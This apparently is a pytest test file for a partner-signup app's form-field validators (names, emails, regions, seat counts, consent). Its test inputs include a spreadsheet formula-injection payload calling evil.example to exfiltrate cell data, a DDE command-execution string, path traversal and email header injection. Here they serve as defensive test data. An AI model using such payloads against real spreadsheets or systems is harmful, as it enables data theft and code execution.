import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from partnerdesk.domain.fields import (
    CONTACT_NAME,
    COUNTRY,
    EMAIL,
    FREE_TEXT,
    ORGANISATION,
    SEATS,
    Choice,
    Email,
    FieldError,
    Text,
    Whole,
    YesNo,
)

KEPT_AS_TYPED = [
    '=IMPORTXML("https://evil.example/?d="&A1,"//a")',
    "+cmd|' /C calc'!A0",
    "\ufe661+1",
    "\uff0d1",
    "TRUE",
    "00123",
    "1e5",
    "3/4",
    "#REF!",
    "None",
    "Smith & Sons <Holdings>",
    "{0.__class__.__mro__}",
    "../../invoices/2026-0001",
    "\u0410\u0441me Ltd",
    "\uff21\uff23\uff2d\uff25",
    "Caf\u00e9 \U0001f469\u200d\U0001f4bb",
    "\u2764\ufe0f\u200d\U0001f525",
    "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "Stra\u00dfe AG",
    "\u0395\u03bb\u03bb\u03ac\u03b4\u03b1 \u0391\u0395",
    "\u0634\u0631\u0643\u0629",
    "\U0001f600" * 200,
]


@pytest.mark.parametrize("text", KEPT_AS_TYPED)
def test_a_name_is_kept_as_typed_whatever_it_looks_like(text):
    assert ORGANISATION.read("organisation", text) == text


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("  Acme ", "Acme"),
        ("\u00a0Acme\u3000", "Acme"),
        ("\r=1+1", "=1+1"),
        ("\n=1+1", "=1+1"),
        ("\tAcme\r\n", "Acme"),
        ("\ufeffAc\u200bme\u2060", "Acme"),
        ("\u200b=1+1", "=1+1"),
        ("\u2068Acme\u2069\u200f", "Acme"),
        ("Ac\u00adme", "Acme"),
        ("\u200dAcme\u200c Ltd\u200d", "Acme Ltd"),
        ("Cafe\u0301", "Caf\u00e9"),
    ],
)
def test_what_nobody_sees_is_removed_before_a_name_is_kept(typed, kept):
    assert ORGANISATION.read("organisation", typed) == kept


@pytest.mark.parametrize(
    ("value", "code"),
    [
        (None, "required"),
        ("", "required"),
        ("   ", "required"),
        ("\u3164\u2800", "required"),
        ("\u200b\u200c\u200d", "required"),
        ("\u0301", "required"),
        (["a", "b"], "not-text"),
        (5, "not-text"),
        (True, "not-text"),
        ({}, "not-text"),
        ("Acme\x00Ltd", "control-character"),
        ("Ac\x07me\x1b[31m", "control-character"),
        ("Acme\tLtd", "control-character"),
        ("Acme\uffff", "control-character"),
        ("Acme\ufdd0", "control-character"),
        ("Acme\U0010fffe", "control-character"),
        ("Acme\ud800", "control-character"),
        ("Acme\x85Ltd", "line-break"),
        ("Acme\x85", "line-break"),
        ("Acme\u2028Ltd", "line-break"),
        ('Acme\n{"level":"INFO"}', "line-break"),
        ("Acme\r\nLtd", "line-break"),
        ("Acme\u202egnp.exe", "hidden-direction"),
        ("Acme\u202a", "hidden-direction"),
        ("A" + "\u0301" * 9, "too-many-marks"),
        ("A" * 201, "too-long"),
        ("A" * 1_000_000, "too-long"),
        ("\ufdfa" * 60, "too-long"),
    ],
)
def test_a_name_that_cannot_be_kept_is_refused_with_a_code(value, code):
    found = ORGANISATION.read("organisation", value)

    assert isinstance(found, FieldError)
    assert (found.field, found.code) == ("organisation", code)
    assert found.message.endswith(".")


def test_lengths_are_counted_after_compatibility_forms_are_spelled_out():
    assert ORGANISATION.read("organisation", "A" * 200) == "A" * 200
    assert CONTACT_NAME.read("name", "A" * 128) == "A" * 128
    assert isinstance(CONTACT_NAME.read("name", "A" * 129), FieldError)
    assert ORGANISATION.read("organisation", "\ufdfa" * 11) == "\ufdfa" * 11  # 198 after NFKC


def test_eight_marks_on_one_letter_are_still_a_letter():
    assert ORGANISATION.read("organisation", "A" + "\u0327" * 8) == "A" + "\u0327" * 8


def test_free_text_has_lines_of_one_kind_and_no_other_controls():
    assert FREE_TEXT.read("notes", "one\r\ntwo\rthree\u2028four") == "one\ntwo\nthree\nfour"
    assert FREE_TEXT.read("notes", "x" * 4_000) == "x" * 4_000
    assert FREE_TEXT.read("notes", "\u3164\n\u3164") == ""
    assert FREE_TEXT.read("notes", None) == ""
    for wrong in ("x" * 4_001, "a\x0bb", "a\x85b", "a\x00b", "a\u202eb"):
        assert isinstance(FREE_TEXT.read("notes", wrong), FieldError)


@given(st.text(max_size=60))
def test_whatever_is_kept_is_one_line_of_visible_normal_text(text):
    kept = Text(100).read("x", text)

    if isinstance(kept, str):
        assert kept == unicodedata.normalize("NFC", kept)
        assert kept.splitlines() == [kept]
        assert kept.strip() == kept
        assert not {unicodedata.category(each) for each in kept} & {"Cc", "Cs"}
        assert Text(100).read("x", kept) == kept


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("a+tag@firm-1.example", "a+tag@firm-1.example"),
        ("o'brien@firm-1.example", "o'brien@firm-1.example"),
        (" A@Firm-1.EXAMPLE\u00a0", "a@firm-1.example"),
        ("postmaster@example.com", "postmaster@example.com"),
        ("a@xn--pple-43d.com", "a@xn--pple-43d.com"),
        ("info@m\u00fcller.de", "info@xn--mller-kva.de"),
        ("a" * 64 + "@example.com", "a" * 64 + "@example.com"),
    ],
)
def test_an_address_is_kept_in_small_letters_with_its_domain_in_ascii(typed, kept):
    assert EMAIL.read("email", typed) == kept


@pytest.mark.parametrize(
    "typed",
    [
        "a@b@c.example",
        "a@localhost",
        "a@example.com.",
        "a@example.com,b@example.com",
        '"a b"@example.com',
        "a@[192.0.2.1]",
        "Ann <a@example.com>",
        "a\uff20example.com",
        "\u00e9@example.com",
        "a" * 65 + "@example.com",
        "a" * 60 + "@" + "b" * 190 + ".com",
        "a" * 10 + "@" + ".".join(["b" * 60] * 4) + ".com",
        "mailto:a@example.com?bcc=x@y.z",
        "mailto:a@example.com",
        "a b@example.com",
        "@example.com",
        "example.com",
    ],
)
def test_anything_but_one_plain_address_is_refused(typed):
    found = EMAIL.read("email", typed)

    assert isinstance(found, FieldError)
    assert found.code in {"not-an-address", "too-long"}


def test_a_header_cannot_hide_behind_an_address():
    found = EMAIL.read("email", "a@example.com\r\nBcc: b@example.com")

    assert isinstance(found, FieldError)
    assert found.code == "line-break"


def test_an_address_may_be_left_out_only_where_it_is_optional():
    assert Email(is_required=False).read("email", "") == ""
    assert EMAIL.read("email", "") == FieldError("email", "required", "Please fill this in.")


@pytest.mark.parametrize(("typed", "kept"), [("DE", "DE"), ("de", "DE"), (" us ", "US")])
def test_a_region_is_two_letters_in_any_case(typed, kept):
    assert COUNTRY.read("country", typed) == kept


@pytest.mark.parametrize(
    "typed", ["SU", "YU", "AN", "EU", "UK", "276", "DEU", "\uff24\uff25", "Germany", ["DE"], 5, " "]
)
def test_withdrawn_made_up_and_full_width_codes_are_no_regions(typed):
    found = COUNTRY.read("country", typed)

    assert isinstance(found, FieldError)
    assert found.code == "unknown-region"
    assert "Region/Country" in found.message


def test_a_region_must_be_chosen():
    assert isinstance(COUNTRY.read("country", ""), FieldError)


@pytest.mark.parametrize("value", [1, 50, 1_000_000])
def test_seats_are_json_integers(value):
    assert SEATS.read("seats", value) == value


@pytest.mark.parametrize("value", [0, -1, 1_000_001, 5.0, True, "50", float("inf"), [1], 10**400])
def test_anything_but_an_integer_in_range_is_refused_for_seats(value):
    assert isinstance(SEATS.read("seats", value), FieldError)


@pytest.mark.parametrize(("typed", "number"), [("50", 50), (" 50 ", 50), ("007", 7)])
def test_forms_and_cells_write_seats_in_plain_digits(typed, number):
    assert SEATS.read("seats", SEATS.written_out(typed)) == number


@pytest.mark.parametrize(
    "typed",
    [
        "1_000", "+5", "-5", "1,000", "0x10", "1e3", "5.0", "\u0663\u0664", "\uff15", "9" * 5000,
        "1 000", "five", ["5"],
    ],
)  # fmt: skip
def test_no_other_writing_of_numbers_is_guessed_at(typed):
    assert isinstance(SEATS.read("seats", SEATS.written_out(typed)), FieldError)


def test_a_number_that_may_be_left_out_is_0_then():
    users = Whole(1, 10, is_required=False)

    assert users.read("users", None) == users.read("users", users.written_out(" ")) == 0
    assert isinstance(SEATS.read("seats", None), FieldError)


def test_a_choice_takes_its_codes_and_nothing_else():
    size = Choice.among(("1-50", "51-100"))

    assert size.read("company_size", "51-100") == "51-100"
    for wrong in ("", None, "51", ["51-100"], "1-50 "):
        assert isinstance(size.read("company_size", wrong), FieldError)
    assert Choice({"a": "A"}, is_required=False).read("x", "") == ""


def test_a_code_counts_however_it_is_capitalised():
    assert Choice({"other": "Other"}).read("stage", "Other") == "other"


def test_a_consent_must_be_given():
    terms = YesNo(consent="Please accept the terms.")

    assert terms.read("terms", value=True) is True
    for missing in (None, False):
        found = terms.read("terms", missing)
        assert found == FieldError("terms", "required", "Please accept the terms.")


def test_a_tick_is_true_or_false_in_json_and_a_word_in_forms():
    mails = YesNo()

    assert mails.read("mails", value=True) is True
    assert mails.read("mails", None) is False
    assert mails.read("mails", mails.written_out("on")) is True
    assert mails.read("mails", mails.written_out(" Yes ")) is True
    assert mails.read("mails", mails.written_out("")) is False
    for wrong in (1, 0, "true", "maybe", [True]):
        assert isinstance(mails.read("mails", wrong), FieldError)
    assert isinstance(mails.read("mails", mails.written_out("maybe")), FieldError)
    assert isinstance(mails.read("mails", mails.written_out(1)), FieldError)
